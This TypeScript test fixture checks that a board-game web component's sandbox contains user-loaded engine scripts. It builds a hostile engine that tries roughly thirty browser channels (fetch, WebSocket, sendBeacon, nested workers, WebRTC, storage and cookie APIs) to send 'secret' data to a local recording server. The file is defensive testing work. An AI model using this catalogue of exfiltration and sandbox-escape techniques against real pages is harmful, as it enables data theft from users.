/**
 * A hostile engine, and the page that runs it. The engine tries to read the storage of the page, and to send the stored
 * data to another server.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { SCRIPT } from './engine-card.ts';

/**
 * Two servers: a site with the element and without a Content-Security-Policy, and the server that the hostile engine
 * tries to reach. The second server records the requests that arrive.
 */
export class Hostile {
  /** The requests that have arrived at the second server: their paths, or `udp`. */
  readonly reached: string[] = [];
  readonly page: string;
  readonly other: string;
  readonly #end: () => Promise<void>;

  private constructor(site: Server, other: Server, udp: ReturnType<typeof createSocket>, element: string) {
    this.page = address(site);
    this.other = address(other);
    udp.on('message', () => this.reached.push('udp'));
    other.on('request', ({ url }, answer) => {
      this.reached.push(String(url));
      answer.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
      answer.end('globalThis.postMessage?.("x")');
    });
    other.on('upgrade', ({ url }, socket) => {
      this.reached.push(String(url));
      socket.destroy();
    });
    site.on('request', async ({ url }, answer) => {
      const path = String(url).split('?')[0];
      // The engine must also be isolated if the page has cross-origin isolation.
      const isolated = String(url).endsWith('isolated');
      if (path === '/') {
        answer.writeHead(200, {
          'Content-Type': 'text/html; charset=utf-8',
          ...(isolated
            ? { 'Cross-Origin-Opener-Policy': 'same-origin', 'Cross-Origin-Embedder-Policy': 'require-corp' }
            : {}),
        });
        answer.end(
          '<!doctype html><html lang="en"><title>Hostile</title><script type="module" src="/dist/index.js"></script>' +
            '<renju-board mode="search" moves="h8 i9 g7"></renju-board>',
        );
        return;
      }
      const file = await fetch(element + path);
      answer.writeHead(file.status, {
        'Content-Type': file.headers.get('Content-Type') ?? 'text/plain',
        'Cross-Origin-Embedder-Policy': 'require-corp',
      });
      answer.end(new Uint8Array(await file.arrayBuffer()));
    });
    this.#end = async () => {
      udp.close();
      for (const server of [site, other]) {
        server.closeAllConnections();
        server.close();
      }
    };
  }

  /** Starts the two servers. `element` is the origin that serves the files of the element. */
  static async start(element: string): Promise<Hostile> {
    const [site, other] = [createServer(), createServer()];
    site.listen(0, '127.0.0.1');
    other.listen(0, '127.0.0.1');
    await Promise.all([once(site, 'listening'), once(other, 'listening')]);
    const udp = createSocket('udp4');
    // UDP on the same port number as HTTP, because QUIC would use this port.
    udp.bind((other.address() as AddressInfo).port, '127.0.0.1');
    await once(udp, 'listening');
    return new Hostile(site, other, udp, element);
  }

  end(): Promise<void> {
    return this.#end();
  }

  /** Returns the script of the hostile engine. The engine reports its successful attacks in its name. */
  script(): string {
    return `${SCRIPT}\n(${attack})(${JSON.stringify(this.other)});`;
  }
}

function address(server: Server): string {
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** Tries all attacks, and lists the successful ones. Runs in the worker of the engine, after the engine's script. */
function attack(other: string): void {
  const scope = self as unknown as Record<string, never>;
  const got: string[] = [];
  const attempt = async (name: string, way: () => unknown) => {
    const late = new Promise((resolve) => setTimeout(() => resolve(false), 1_500));
    try {
      if (await Promise.race([way(), late])) got.push(name);
    } catch {
      // An error means that the attack has failed, as it must.
    }
  };
  const opens = (target: EventTarget, event: string) =>
    new Promise((resolve, reject) => {
      target.addEventListener(event, () => resolve(true));
      target.addEventListener('error', reject);
    });
  const inWorker = (text: string) =>
    opens(new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))), 'message');
  // The sandbox replaces `fetch` by a function that only returns the files that the user has chosen. A new worker has
  // the browser's own `fetch`, so the attack below creates one.
  const prototype = Object.getPrototypeOf(Object.getPrototypeOf(self));
  const tries: Record<string, () => unknown> = {
    import: () => import(`${other}/import?secret`),
    fetch: () => fetch(`${other}/fetch?secret`, { mode: 'no-cors' }),
    'own fetch': () => (prototype.fetch ?? fetch).call(self, `${other}/own-fetch?secret`, { mode: 'no-cors' }),
    font: () => new FontFace('x', `url(${other}/font?secret)`).load(),
    request: () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${other}/request?secret`);
      request.send();
      return opens(request, 'load');
    },
    socket: () => opens(new WebSocket(`${other.replace('http', 'ws')}/socket?secret`), 'open'),
    events: () => opens(new EventSource(`${other}/events?secret`), 'open'),
    transport: async () => {
      await new WebTransport(`${other.replace('http', 'https')}/transport?secret`).ready;
      return true;
    },
    importScripts: () => {
      (scope as unknown as { importScripts(address: string): void }).importScripts(`${other}/scripts?secret`);
      return true;
    },
    worker: () => opens(new Worker(`${other}/worker?secret`), 'message'),
    'worker that imports': () => inWorker(`import('${other}/inner?secret').then(() => postMessage(1))`),
    'worker that fetches': () =>
      inWorker(`fetch('${other}/inner-fetch?secret', { mode: 'no-cors' }).then(() => postMessage(1))`),
    'shared worker': () => Boolean(new SharedWorker(`${other}/shared?secret`)),
    peers: () => Boolean(new RTCPeerConnection({ iceServers: [{ urls: `stun:${other.slice('http://'.length)}` }] })),
    beacon: () => (navigator as Navigator).sendBeacon(`${other}/beacon?secret`),
    database: () =>
      new Promise((resolve, reject) => {
        const opening = indexedDB.open('secret');
        opening.onsuccess = () => resolve(true);
        opening.onerror = reject;
      }),
    databases: () => indexedDB.databases(),
    // In WebKit an opaque origin has a cache storage, which must be empty.
    caches: async () => (await caches.match('/secret')) !== undefined,
    files: async () => (await navigator.storage.getDirectory()).kind === 'directory',
    channel: () => {
      const channel = new BroadcastChannel('secret');
      channel.postMessage('x');
      return opens(channel, 'message');
    },
    locks: () => navigator.locks.query(),
    cookies: () => (scope as unknown as { cookieStore: { getAll(): Promise<[]> } }).cookieStore.getAll(),
    window: () => 'parent' in self || 'top' in self || 'open' in self || 'document' in self,
    navigation: () => {
      (self as unknown as { location: string }).location = `${other}/navigation?secret`;
      return self.location.href.startsWith(other);
    },
    origin: () => self.origin !== 'null',
    'messages past the limits': () => 'postMessage' in Object.getPrototypeOf(self),
  };
  // The attacks run one after another, because Firefox may hang if it refuses the scripts of two workers at once.
  const all = (async () => {
    for (const [name, way] of Object.entries(tries)) await attempt(name, way);
  })();
  const before = scope.onmessage as unknown as (event: MessageEvent) => void;
  scope.onmessage = (async (event: MessageEvent) => {
    if (event.data !== 'ABOUT') return before(event);
    await all;
    postMessage(`name="Got at ${got.join(', ') || 'nothing'}", version="of ${Object.keys(tries).length}"`);
  }) as never;
}

/** Stores secrets in the page, chooses the engine, and returns the name that the engine reports. Runs in the page. */
export async function chooseHostile(script: string): Promise<string> {
  await new Promise((resolve, reject) => {
    const opening = indexedDB.open('secret');
    opening.onsuccess = resolve;
    opening.onerror = reject;
  });
  await (await caches.open('secret')).put('/secret', new Response('secret'));
  const channel = new BroadcastChannel('secret');
  channel.onmessage = () => channel.postMessage('secret');
  const root = () => document.querySelector('renju-board')?.shadowRoot;
  const until = async <T>(find: () => T | null | undefined | false): Promise<T> => {
    for (;;) {
      const found = find();
      if (found) return found;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  };
  const named = (name: RegExp) =>
    until(() =>
      [...(root()?.querySelectorAll('button') ?? [])].find((button) =>
        name.test(button.textContent + String(button.ariaLabel) + button.title),
      ),
    );
  (await named(/Board tools/)).click();
  (await named(/Engine/)).click();
  const input = await until(() => root()?.querySelector<HTMLInputElement>('.engine input[type=file]'));
  const chosen = new DataTransfer();
  chosen.items.add(new File([script], 'engine.js'));
  input.files = chosen.files;
  input.dispatchEvent(new Event('change'));
  // If an engine cannot start, the page reports the reason only when the engine is first used.
  const think = await until(() => root()?.querySelector<HTMLButtonElement>('.engine .fields button'));
  think.click();
  return until(() => {
    const alert = root()?.querySelector('.engine [role=alert]')?.textContent;
    const name = root()?.querySelector('.engine .row > b')?.textContent ?? '';
    return alert || (/Got at/.test(name) && name);
  });
}
